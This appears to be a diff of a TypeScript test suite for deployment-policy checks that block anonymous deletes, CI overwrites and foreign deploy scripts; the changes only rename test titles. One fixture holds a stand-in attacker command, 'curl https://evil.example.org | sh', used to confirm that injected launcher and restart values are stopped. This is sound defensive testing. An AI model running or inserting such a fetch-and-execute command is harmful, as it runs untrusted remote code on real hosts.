@@ -49,7 +49,7 @@ describe("anonymous-reads-only", () => {
     },
   );
 
-  test("looks at the config for while the issuer is away by itself", () => {
+  test("judges the fallback config by itself", () => {
     const bad = deploy(
       (control) => {
         control.repositories["**"] = { anonymousPolicy: ["read", "delete"] };
@@ -61,7 +61,7 @@ describe("anonymous-reads-only", () => {
     ]);
   });
 
-  test("knows that the empty user name is anybody, in a repository's policy and in the admins'", () => {
+  test("treats the empty user name as anonymous, in a repository's policy and in the admin policy", () => {
     const named = (where: "repository" | "admin") =>
       deploy((control) => {
         const policy = { users: [""], actions: ["create" as const] };
@@ -107,7 +107,7 @@ describe("anonymous-reads-only", () => {
       "Policies, Users and Actions",
       (config) => config.replace('"policies": [', '"Policies": [{"Users": [""], "Actions": ["delete"]},'),
     ],
-  ])("reads %s as zot does, whatever the case of its names", (_name, change) => {
+  ])("reads %s as zot does, in any case", (_name, change) => {
     expect(judge(anonymousReadsOnly, [worded(change)])).toEqual([
       expect.stringMatching(/^zot's config lets anybody delete in /),
     ]);
@@ -146,7 +146,7 @@ describe("anonymous-reads-only", () => {
       "a script",
     ],
     ["another script", { stdin: "exec something else" }, "a script that is not this project's own"],
-  ])("stops %s, since nobody can tell what it brings", (_name, change, said) => {
+  ])("stops %s, because its effect is unknown", (_name, change, said) => {
     const { stdin: script, ...others } = { ...inputs, ...change };
     const sent = script === undefined ? others : { ...others, stdin: script };
     expect(judge(anonymousReadsOnly, [declare(types.command, sent)])).toEqual([
@@ -225,7 +225,7 @@ describe("ci-never-overwrites", () => {
     ]);
   });
 
-  test("stops what would be everybody's, and what an admin policy gives", () => {
+  test("stops a grant to everyone, and what an admin policy gives", () => {
     const open = deploy((control) =>
       everywhere(control).forEach((each) => each.defaultPolicy?.push("delete")),
     );
@@ -245,7 +245,7 @@ describe("ci-never-overwrites", () => {
     expect(judge(ciNeverOverwrites, [ciGroup, admin])[0]).toContain("update in every repository");
   });
 
-  test("leaves people's groups alone, which the stack looks up and does not make", () => {
+  test("ignores groups that the stack looks up and does not create", () => {
     const people = harmful({ groups: ["family"] }, ["update", "delete"]);
     expect(judge(ciNeverOverwrites, [ciGroup, ciUser, people, apiKey()])).toEqual([]);
   });
@@ -295,7 +295,7 @@ describe("own-deploy", () => {
     },
   );
 
-  test.each(hosts)("stops every variable of another text by its name, for %s", (_name, host) => {
+  test.each(hosts)("stops each changed variable by its name, for %s", (_name, host) => {
     const { values } = splitScript(sentTo(host));
     const names = Object.keys(values).filter((name) => !brought.includes(name));
     expect(names.length).toBeGreaterThan(host.runAs === undefined ? 20 : 8);
@@ -331,7 +331,7 @@ describe("own-deploy", () => {
     },
   );
 
-  test("stops another launcher, another service, another restart, and tells none of them", () => {
+  test("stops another launcher, service or restart command, and shows none of them", () => {
     const [, , [, unit] = ["", {}]] = hosts;
     const evil = "curl https://evil.example.org | sh";
     for (const name of ["ZA_LAUNCHER", "ZA_LAUNCHER_ENV", "ZA_SERVICE_TEXT", "ZA_RESTART", "ZA_TRIAL"]) {
@@ -356,11 +356,11 @@ describe("own-deploy", () => {
     ]);
   });
 
-  test("judges what is not known yet when it is known", () => {
+  test("judges an unknown value once it is known", () => {
     expect(judged("", {}, { stdin: undefined })).toEqual([]);
   });
 
-  test("stops whatever else goes to the host: other commands, files, an environment", () => {
+  test("stops everything else that goes to the host: other commands, files, an environment", () => {
     expect(
       judge(
         ownDeploy(() => ({ layout: layout(), issuer })),
